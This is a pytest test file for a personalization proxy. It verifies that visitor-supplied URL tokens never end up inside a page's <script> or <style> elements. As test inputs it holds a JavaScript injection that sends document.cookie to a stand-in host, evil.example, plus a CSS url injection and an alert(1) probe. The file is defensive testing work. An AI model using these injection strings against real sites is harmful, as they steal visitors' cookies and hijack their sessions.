"""A visitor's value never becomes code: no token into a <script> or <style> by its selector.

Escaping keeps a value from closing a <script> or <style>, not from running inside it (and in
SVG their content is text whose references the parser decodes). So the check refuses a change
with a token whose selector names one as the element it writes into, and the rewriter skips
such an edit on one that a selector matches without naming it (``#cfg``, ``.x``): the element
is left as the origin sent it and the skip counted. A marketer's own value, without tokens,
still goes where it is aimed.
"""

from __future__ import annotations

from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from selectolax.lexbor import LexborHTMLParser
from yarl import URL

from refract.proxy import metrics
from refract.proxy.personalize import fill_tokens
from refract.proxy.rewriter import Edit, PageRewriter, Plan
from refract.rules.schema import Change
from refract.rules.selectors import selector_subjects
from tests.conftest import BROWSER, ProxyFactory
from tests.support.metrics import counter
from tests.test_token_safety import HEADER, PAYLOADS, loaded, problems, rule_file, toml_change

NAVIGATION = {"User-Agent": BROWSER, "Sec-Fetch-Dest": "document"}


@pytest.mark.parametrize(
    ("selector", "subjects"),
    [
        ("script#cfg", {"script"}),
        ("SCRIPT", {"script"}),
        ("body > script", {"script"}),
        ("div >style", {"style"}),
        ("svg  script.a[b]", {"script"}),
        ("h1 , style", {"h1", "style"}),
        ("\\73 cript", {"script"}),  # a CSS escape: lol-html reads it as script
        ("scr\\ipt", {"script"}),
        ("*|script", {"script"}),
        ("script:not(.a)", {"script"}),
        ('[title="a, b"] > p', {"p"}),  # the comma and the space are the string's
        ("p:nth-child(2n + 1)", {"p"}),
        ("#cfg", {""}),
        (".x", {""}),
        ("*", {""}),
        ('[data-x="script"]', {""}),
        ("div :not(script)", {""}),
        ("script #cfg", {""}),  # an element inside a script's: none
    ],
)
def test_the_subject_of_a_selector_is_what_it_matches(selector: str, subjects: set[str]) -> None:
    assert selector_subjects(selector) == subjects


# --- the check ------------------------------------------------------------------------------

TOKEN = "{{ utm.term }}"
REFUSED = {
    "set_text-script": ("set_text", "script#cfg", "", f'var c = "{TOKEN}";', "into <script>"),
    "set_text-style": ("set_text", "style#theme", "", f".a {{ color: {TOKEN} }}", "<style>"),
    "set_html-style": ("set_html", "head > style", "", f"<b>{TOKEN}</b>", "into <style>"),
    "append-script": ("append", "body > script", "", TOKEN, "into <script>"),
    "prepend-upper": ("prepend", "SCRIPT", "", TOKEN, "into <script>"),
    "in-a-list": ("set_text", "h1, style", "", TOKEN, "into <style>"),
    "escaped-name": ("set_text", "\\\\73 cript", "", TOKEN, "into <script>"),
    "svg-script": ("set_text", "svg script", "", TOKEN, "into <script>"),
    "script-type": ("set_attribute", "script#cfg", "type", TOKEN, "attribute of <script>"),
    "meta-name": ("set_attribute", "meta", "name", TOKEN, "attribute of <meta>"),
    "link-class": ("add_class", "link", "", f"x-{TOKEN}", "attribute of <link>"),
}


def change_text(action: str, selector: str, attribute: str, value: str) -> str:
    attribute_field = f'attribute = "{attribute}", ' if attribute else ""
    return (
        f'{{ action = "{action}", selector = "{selector}", {attribute_field}value = \'{value}\' }}'
    )


@pytest.mark.parametrize(
    ("action", "selector", "attribute", "value", "says"), REFUSED.values(), ids=REFUSED.keys()
)
def test_a_token_aimed_at_code_by_the_selector_is_refused_with_file_line_field_and_hint(
    action: str, selector: str, attribute: str, value: str, says: str
) -> None:
    change = change_text(action, selector, attribute, value)
    text = rule_file(change)
    [problem] = problems(text)
    assert (problem.file, problem.line) == (
        "rules/rules.toml",
        text.splitlines().index(f"changes = [{change}]") + 1,
    )
    assert problem.field == "personalizations[0].changes[0].value"
    assert says in problem.message
    assert problem.hint


ACCEPTED = {
    # No element named: refusing these would refuse nearly every change with a token; the
    # rewriter skips one that meets a <script> (below).
    "id": ("set_text", "#cfg", "", TOKEN),
    "class": ("set_text", ".x", "", TOKEN),
    "universal": ("append", "*", "", f"<b>{TOKEN}</b>"),
    "attribute": ("prepend", "[data-x]", "", TOKEN),
    # Escaped text stays text there: references are read as characters, < cannot close them.
    "title": ("set_text", "title", "", f"Hello {TOKEN}"),
    "textarea": ("set_html", "textarea", "", TOKEN),
    "xmp": ("set_text", "xmp", "", TOKEN),
    # Before, after or instead of a <script>: markup of the page, not the script's content.
    "insert-before-script": ("insert_before", "script#cfg", "", f"<b>{TOKEN}</b>"),
    "replace-script": ("replace", "script", "", f"<b>{TOKEN}</b>"),
    # The marketer's own code, without tokens, as today.
    "literal-script": ("set_text", "script#cfg", "", "var c = 1;"),
    "literal-type": ("set_attribute", "script#cfg", "type", "module"),
}


@pytest.mark.parametrize(
    ("action", "selector", "attribute", "value"), ACCEPTED.values(), ids=ACCEPTED.keys()
)
def test_tokens_elsewhere_and_literal_code_are_accepted(
    action: str, selector: str, attribute: str, value: str
) -> None:
    assert problems(rule_file(change_text(action, selector, attribute, value))) == []


# --- the rewriter ---------------------------------------------------------------------------

CODE_PAGE = (
    b"<html><head><style class=x>.a{}</style></head><body><h1 class=x>Hi</h1>"
    b"<script class=x>var a = 1;</script><svg><script class=x>b()</script>"
    b"<style class=x>.b{}</style></svg></body></html>"
)
CODE = ("style", "script", "svg script", "svg style")


def code_of(page: bytes) -> list[str]:
    tree = LexborHTMLParser(page.decode())
    return [node.html or "" for selector in CODE for node in tree.css(f"{selector}.x")]


def rewritten(change: dict[str, str], term: str) -> bytes:
    checked = Change.model_validate(change)
    value = fill_tokens(checked, {"utm.term": term})
    edit = Edit(checked.action, checked.selector, value, checked.attribute, "{{" in checked.value)
    return PageRewriter().rewrite(CODE_PAGE, Plan(edits=(edit,)))


@pytest.mark.parametrize(
    "change",
    [
        {"action": "set_text", "value": f"x = '{TOKEN}'"},
        {"action": "set_html", "value": f"<b>{TOKEN}</b>"},
        {"action": "append", "value": f"{TOKEN}"},
        {"action": "prepend", "value": f"{TOKEN}"},
        {"action": "set_attribute", "attribute": "type", "value": TOKEN},
        {"action": "add_class", "value": f"c-{TOKEN}"},
    ],
    ids=lambda change: change["action"],
)
def test_an_edit_with_a_token_leaves_every_script_and_style_as_the_origin_sent_it(
    change: dict[str, str],
) -> None:
    before = counter(metrics.FAIL_OPEN, stage="token_in_code")
    page = rewritten({"selector": ".x", **change}, "red;alert(1)")
    assert code_of(page) == code_of(CODE_PAGE)
    assert b"alert" in page  # the <h1> did get it
    assert counter(metrics.FAIL_OPEN, stage="token_in_code") == before + 4


def test_the_marketers_own_value_still_reaches_a_script() -> None:
    edit = Edit("set_text", "script.x", "var a = 2;")
    page = PageRewriter().rewrite(CODE_PAGE, Plan(edits=(edit,)))
    assert page.count(b"var a = 2;") == 2  # the HTML one and the SVG one


@settings(max_examples=200, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(
    action=st.sampled_from(["set_text", "set_html", "append", "prepend", "set_attribute"]),
    selector=st.sampled_from([".x", "*", "[class]", ":not(h1)", "body *"]),
    term=st.one_of(st.sampled_from(PAYLOADS), st.text(max_size=40)),
)
def test_no_script_or_style_gets_a_visitor_value_whatever_the_selector(
    action: str, selector: str, term: str
) -> None:
    """Each script and style of the page is one the origin sent (a change to the <body>'s
    content may remove them: that is the marketer's literal doing)."""
    change = {"action": action, "selector": selector, "value": f"<b>{TOKEN}</b>"}
    if action == "set_attribute":
        change = {**change, "attribute": "type", "value": TOKEN}
    [checked] = loaded(rule_file(toml_change(change))).personalizations["p"].changes
    value = fill_tokens(checked, {"utm.term": term})
    edit = Edit(checked.action, checked.selector, value, checked.attribute, has_tokens=True)
    page = PageRewriter().rewrite(CODE_PAGE, Plan(edits=(edit,)))
    assert set(code_of(page)) <= set(code_of(CODE_PAGE))


# --- end to end: the tester's crafted link, through the proxy -------------------------------

SCRIPT_PAGE = (
    "<html><head><style id=theme></style></head><body><h1 class=hero>Hi</h1>"
    "<script id=cfg></script></body></html>"
)
HOSTILE = {
    "utm_campaign": '";fetch("//evil.example/?c="+document.cookie);//',
    "utm_term": "red}body{background:url(//evil.example/x)}x{x:y",
}


def rules_directory(tmp_path: Path, changes: str) -> str:
    directory = tmp_path / "rules"
    directory.mkdir()
    (directory / "rules.toml").write_text(
        f'{HEADER}\n[[personalizations]]\nkey = "p"\naudience = "everyone"\nchanges = [{changes}]\n'
    )
    return str(directory)


def test_the_testers_rules_naming_the_script_and_style_are_refused() -> None:
    changes = (
        '{ action = "set_text", selector = "script#cfg", '
        'value = \'window.campaign = "{{ utm.campaign | "none" }}";\' },\n'
        '{ action = "set_text", selector = "style#theme", '
        "value = '.hero { color: {{ utm.term | \"black\" }} }' }"
    )
    found = problems(rule_file(changes))
    assert [problem.field for problem in found] == [
        "personalizations[0].changes[0].value",
        "personalizations[0].changes[1].value",
    ]


async def test_a_crafted_link_reaches_no_script_or_style_a_selector_matches_by_id(
    proxy: ProxyFactory, tmp_path: Path
) -> None:
    changes = (
        '{ action = "set_text", selector = "#cfg", '
        'value = \'window.campaign = "{{ utm.campaign | "none" }}";\' },\n'
        '{ action = "set_text", selector = "#theme", '
        "value = '.hero { color: {{ utm.term | \"black\" }} }' },\n"
        '{ action = "set_text", selector = "h1", value = \'From {{ utm.campaign }}\' }'
    )
    client = await proxy(rules={"directory": rules_directory(tmp_path, changes)})
    before = counter(metrics.FAIL_OPEN, stage="token_in_code")
    url = URL("/page").with_query({"body": SCRIPT_PAGE, **HOSTILE})
    response = await client.get(url, headers=NAVIGATION)
    tree = LexborHTMLParser(await response.text())
    [script], [style], [h1] = tree.css("script#cfg"), tree.css("style#theme"), tree.css("h1")
    assert (script.text(), style.text()) == ("", "")
    assert h1.text() == f"From {HOSTILE['utm_campaign']}"  # the personalization applied there
    assert counter(metrics.FAIL_OPEN, stage="token_in_code") == before + 2
